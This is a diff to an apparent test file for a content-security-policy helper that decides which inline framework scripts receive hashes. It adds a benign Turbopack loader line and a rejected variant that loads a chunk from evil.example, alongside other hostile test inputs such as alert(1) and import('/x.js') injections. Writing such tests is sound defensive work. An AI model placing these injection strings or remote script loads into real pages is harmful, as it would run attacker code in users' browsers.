@@ -8,6 +8,7 @@ const framework = [
   'self.__next_f.push([1,"0:{\\"b\\":\\"x\\",\\"c\\":[\\"\\",\\"stories\\"]}\\n"])',
   'self.__next_f.push([1,"a \\u003c/script> that is only words"])',
   '$RC("B:0","S:0")',
+  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/3-kij8d_8h_z7.js"],"runtimeModuleIds":[94553]});',
 ]
 
 describe('the policy of a page', () => {
@@ -37,6 +38,7 @@ describe('the policy of a page', () => {
     '$RX("a",[alert(1)])',
     'import("/x.js")',
     'close()',
+    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]});',
     '$RC=alert',
   ])('gives no hash to %s', (script) => {
     expect(isFrameworkScript(script)).toBe(false)
